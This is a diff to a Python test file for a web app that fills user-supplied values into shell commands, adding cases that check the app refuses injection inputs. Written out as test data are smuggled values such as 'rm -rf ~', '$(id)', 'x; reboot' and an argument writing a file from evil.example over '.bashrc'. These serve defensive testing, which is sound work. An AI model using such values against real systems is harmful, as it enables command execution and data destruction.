@@ -123,7 +123,7 @@ def test_a_value_a_shell_would_run_is_refused_and_nothing_is_saved(client):
     token = form_token(client, f"/d/{diagnosis_id}")
     scripted = client.post(
         f"/d/{diagnosis_id}/fields",
-        data={"csrf_token": token, "api_url": "a.example && rm -rf ~"},
+        data={"csrf_token": token, "api_url": "a.example&&rm"},
         headers={"Accept": "application/json"},
     )
     assert scripted.status_code == 422 and "&" in scripted.get_json()["errors"]["api_url"]
@@ -131,10 +131,45 @@ def test_a_value_a_shell_would_run_is_refused_and_nothing_is_saved(client):
     assert "evil.example" not in client.get(f"/d/{diagnosis_id}").text
 
 
-@pytest.mark.parametrize("value", [INJECTION, "$(id)", "x; reboot", "a`id`", "x #", "\u202eexe"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        INJECTION,
+        "$(id)",
+        "x; reboot",
+        "a`id`",
+        "x #",
+        "\u202eexe",
+        "https://api.example.com --output /home/me/.bashrc https://evil.example/p",
+        "-rf",
+        "*",
+        "~/x",
+        "a\u2028b",
+    ],
+)
 def test_a_link_never_puts_a_value_a_shell_would_run_into_a_command(client, value):
     html = client.get("/a/mail/issue-emails-not-sending", query_string={"api_url": value}).text
     assert 'data-field="api_url">https://api.example.com</span>/health' in html
+
+
+def test_a_value_stored_before_the_rule_is_never_handed_out(app, client):
+    from kb.diagnosis.values import DiagnosisField
+
+    diagnosis_id = start(client)
+    with Session(app.extensions["kb.db"]) as session:
+        session.add(DiagnosisField(diagnosis_id=diagnosis_id, key="api_url", value='x"; id; "'))
+        session.commit()
+    assert client.get(f"/api/diagnoses/{diagnosis_id}").get_json()["fields"] == {}
+    assert "; id;" not in client.get(f"/d/{diagnosis_id}").text
+
+
+@pytest.mark.parametrize(
+    "value", ["api.staging.example.com", "https://[::1]:8080/v1", "user@example.com", "kube-system"]
+)
+def test_hosts_addresses_and_names_fill_commands(client, value):
+    diagnosis_id = start(client)
+    assert fill(client, diagnosis_id, api_url=value).status_code == 303
+    assert client.get(f"/api/diagnoses/{diagnosis_id}").get_json()["fields"] == {"api_url": value}
 
 
 def test_a_link_fills_a_page_but_never_a_secret_field(client):
